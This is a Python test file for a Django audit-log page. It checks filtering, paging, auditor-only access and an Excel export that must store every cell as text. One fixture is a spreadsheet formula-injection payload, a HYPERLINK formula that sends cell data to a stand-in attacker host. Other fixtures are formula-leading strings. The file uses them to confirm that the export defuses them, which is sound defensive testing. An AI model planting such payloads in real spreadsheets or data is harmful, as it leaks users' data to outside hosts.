"""The auditor's page: the trail newest first, filtered by kind, account, days and object, a
page at a time; exported to Excel with the same filters (typed text, never a formula), the
export itself recorded; a 404 for everyone else."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from shuren.audit.actions import record
from shuren.audit.choices import Kind
from shuren.audit.models import AuditEntry
from shuren.testing import ROLE_USERS

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def trail(world, login):
    """The auditor logged in (entry 1: logins are recorded), then four entries 2-5."""
    login("demo-auditor")
    shequ, jiedao = world.user("demo-shequ"), world.user("demo-jiedao")
    record(Kind.LOGIN, actor=shequ, target=shequ)
    record(Kind.LOGIN_FAILED, target=("accounts.user", "", HOSTILE))
    record(Kind.DENIED, actor=jiedao, target=("path", "", "/people/7/reveal/"))
    record(Kind.LOGIN, actor=jiedao, target=jiedao)
    return AuditEntry.objects.order_by("seq")


def shown(response) -> list[int]:
    return [entry.seq for entry, _about, _details in response.context["entries"]]


def test_the_auditor_reads_the_trail_newest_first(client, trail):
    response = client.get(reverse("audit:log"))
    assert response.status_code == 200
    assert shown(response) == [5, 4, 3, 2, 1]
    text = response.content.decode()
    assert "审计记录" in text
    assert "登录失败" in text


def test_the_auditor_filters_by_kind_account_day_and_object(client, trail):
    assert shown(client.get(reverse("audit:log"), {"kind": "login"})) == [5, 2, 1]
    assert shown(client.get(reverse("audit:log"), {"user": "jiedao"})) == [5, 4]
    assert shown(client.get(reverse("audit:log"), {"user": "HYPERLINK"})) == [3]
    assert shown(client.get(reverse("audit:log"), {"q": "reveal"})) == [4]
    assert shown(client.get(reverse("audit:log"), {"kind": "login", "user": "shequ"})) == [2]
    day = timezone.localtime(trail.first().at).date()
    whole_day = {"date_from": day, "date_to": day}
    assert shown(client.get(reverse("audit:log"), whole_day)) == [5, 4, 3, 2, 1]
    assert shown(client.get(reverse("audit:log"), {"date_to": "2020-01-01"})) == []


def test_a_wrong_filter_is_told_in_chinese_not_a_server_error(client, trail):
    response = client.get(
        reverse("audit:log"), {"date_from": "2026-02-30", "kind": "nope", "q": "a\x00b"}
    )
    assert response.status_code == 400
    form = response.context["form"]
    assert set(form.errors) == {"date_from", "kind", "q"}
    response = client.get(
        reverse("audit:log"), {"date_from": "2026-03-02", "date_to": "2026-03-01"}
    )
    assert response.status_code == 400
    assert "起始日期晚于结束日期" in response.content.decode()
    assert client.get(reverse("audit:log"), {"before": "99999999999999999999"}).status_code == 200


def test_the_trail_is_read_a_page_at_a_time(client, login, world):
    from shuren.audit import views

    user = world.user("demo-shequ")
    for _ in range(views.PER_PAGE + 3):
        record(Kind.DENIED, actor=user)
    login("demo-auditor")
    first = client.get(reverse("audit:log"), {"kind": "denied"})
    assert len(shown(first)) == views.PER_PAGE
    older = first.context["older"]
    assert older == shown(first)[-1]
    second = client.get(reverse("audit:log"), {"kind": "denied", "before": older})
    assert shown(second) == [3, 2, 1]
    assert second.context["older"] is None


def test_the_export_holds_the_filtered_entries_as_text_and_is_recorded(client, trail):
    response = client.post(reverse("audit:export"), {"kind": "login_failed"})
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert "attachment" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 1
    label = rows[0][7]
    assert label.value == HOSTILE
    assert label.data_type == "s"  # text, not a formula
    assert label.quotePrefix
    export = AuditEntry.objects.get(kind=Kind.EXPORT)
    assert export.actor_username == "demo-auditor"
    assert export.detail == {
        "file": "audit",
        "rows": 1,
        "cut_short": False,
        "filters": {"kind": "login_failed"},
    }


def test_every_text_cell_that_could_start_a_formula_is_written_as_text(client, login, world):
    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\tcmd", "\rcmd"]:
        record(Kind.LOGIN_FAILED, target=("accounts.user", "", text))
    login("demo-auditor")
    response = client.post(reverse("audit:export"), {})
    sheet = load_workbook(io.BytesIO(response.content)).active
    labels = [row[7] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in labels)
    assert {cell.value for cell in labels} >= {"=1+1", "+1", "-1", "@SUM(A1)", "\tcmd"}


@pytest.mark.parametrize("username", [u for u in ROLE_USERS if u != "demo-auditor"])
def test_everyone_but_the_auditor_gets_404_and_the_404_is_not_recorded(client, login, username):
    login(username)
    assert client.get(reverse("audit:log")).status_code == 404
    assert client.post(reverse("audit:export")).status_code == 404
    assert not AuditEntry.objects.filter(kind=Kind.EXPORT).exists()


def test_the_auditors_home_links_the_trail(client, trail):
    text = client.get(reverse("web:home")).content.decode()
    assert reverse("audit:log") in text
    assert "过去 24 小时有 5 条审计记录" in text


def test_the_page_reads_in_english_for_an_auditor_who_chose_it(client, trail, world):
    from shuren.accounts.actions import set_language

    set_language(user=world.user("demo-auditor"), language="en")
    text = client.get(reverse("audit:log")).content.decode()
    assert "Audit trail" in text
    assert "Login failed" in text
    assert "Export to Excel" in text


def test_the_admin_shows_the_trail_to_the_auditor_read_only_and_to_nobody_else(
    client, login, trail
):
    changelist = reverse("admin:audit_auditentry_changelist")
    assert client.get(changelist).status_code == 200
    entry = trail.last()
    change = reverse("admin:audit_auditentry_change", args=[entry.seq])
    page = client.get(change)
    assert page.status_code == 200
    assert 'name="_save"' not in page.content.decode()
    assert client.post(change, {"target_label": "x"}).status_code == 403
    delete = reverse("admin:audit_auditentry_delete", args=[entry.seq])
    assert client.post(delete, {"post": "yes"}).status_code == 403
    login("demo-secadmin")
    assert client.get(changelist).status_code == 403
